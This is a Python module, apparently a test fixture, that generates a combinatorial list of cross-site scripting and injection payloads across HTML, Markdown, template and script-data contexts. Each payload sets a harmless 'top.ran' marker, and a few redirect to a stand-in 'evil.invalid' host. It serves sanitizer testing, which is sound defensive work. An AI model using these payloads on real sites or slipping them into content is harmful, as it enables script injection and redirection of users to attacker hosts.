"""Texts that try to become more than text: each one, were it read as HTML, Markdown, a template or a script, would set `top.ran`.

Made from ways out of where a text stands and ways to run something; the ways are those of the HTML Standard (8.1.3.4 event
handlers, 7.4.2 javascript: addresses, 4.2.5.3 refresh) and of Python-Markdown's own syntax.
"""

from __future__ import annotations

from itertools import product

RUN = "top.ran=1"

WAYS_OUT = ("", "</title>", "</script>", "</textarea></style>", "-->", '">', "'>", "`>", "</code></pre>", "]]>", "&quot;&gt;", '\\">')
WAYS_IN = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\t>{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi><script>{RUN}</script></mi></math>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">read on</a>',
    f'<form action="javascript:{RUN}"><button autofocus>go on</button></form>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
    "<link rel=preconnect href=https://evil.invalid/>",
    "<base href=https://evil.invalid/>",
    f"<style onload={RUN}></style>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
)
AS_MARKDOWN = (
    f"[read on](javascript:{RUN})",
    f"[read on](java&#115;cript:{RUN})",
    f"[read on](java\tscript:{RUN})",
    f"[read on](data:text/html,<script>{RUN}</script>)",
    f"![seen](x){{: onerror={RUN} }}",
    f"**loud**{{: onclick={RUN} onmouseover={RUN} }}",
    f'words {{: onclick="{RUN}" hidden }}',
    "words {: hidden }",
    "words{: .other-layout hidden=hidden }",
    f"{{: onclick={RUN} }}",
    f"`</title><script>{RUN}</script>`",
    f"`code`{{: onclick={RUN} }}",
    f"<javascript:{RUN}>",
    f"[read on]: javascript:{RUN}",
    f'[read on](x "onmouseover={RUN}")',
    f'![seen](x" onerror="{RUN})',
    f"<!-- --><img src=x onerror={RUN}>",
    f"<div markdown=1 onclick={RUN}>words</div>",
)
AS_TEMPLATE = ("{{ 7 * 7 }}", "{% raw %}", "{% include 'main.html' %}", "{# words #}", "${7*7}", "<%= 7 %>")
AS_DATA = (
    f'"}};{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"</script><script>{RUN}</script>",
    f"\u2028{RUN}\u2028",
    f"]]>{RUN}",
    "\\u003cscript\\u003e" + RUN,
    f"`${{{RUN}}}`",
)
PAYLOADS: list[str] = list(dict.fromkeys([*(out + way for out, way in product(WAYS_OUT, WAYS_IN)), *AS_MARKDOWN, *AS_TEMPLATE, *AS_DATA]))
